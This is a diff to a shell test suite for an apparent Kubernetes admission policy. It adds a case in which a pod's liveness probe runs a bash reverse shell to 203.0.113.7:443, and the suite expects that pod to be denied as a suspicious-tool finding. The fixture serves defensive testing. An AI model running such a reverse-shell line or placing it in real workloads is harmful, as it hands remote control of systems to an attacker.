@@ -149,6 +149,11 @@ pod c5c "{\"securityContext\": $U10001, \"containers\": [$(c "$APPUSER" | jq '.c
 ask "5: command resolved through PATH" c5c allow
 pod c5d "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.args = ["/app/missing"]')]}"
 ask "5: args only (/app/missing is an argument: ENTRYPOINT kept)" c5d allow
+# the run's own words: the same allowed pod with a reverse shell in its
+# liveness probe is denied (its verdict is not the cached one of c5b)
+pod c5p "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.command = ["/usr/bin/python3", "/app/main.py"] | .livenessProbe = {exec: {command: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]}}')]}"
+ask "5: the same run with a reverse shell in its exec probe" c5p deny
+jq_true "5: the probe's command is the suspicious-tool finding" '.message | contains("suspicious-tool: the run'"'"'s command line or environment: bash reverse shell")' "$T/out"
 pod c5e "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.command = [] | .args = []')]}"
 ask "5: empty command and args mean unset" c5e allow
 pod c5f "{\"securityContext\": $U10001, \"containers\": [$(c "$NOROOT" | jq '.env = [{name: "BIN", value: "/app"}] | .command = ["$(BIN)/missing"]')]}"
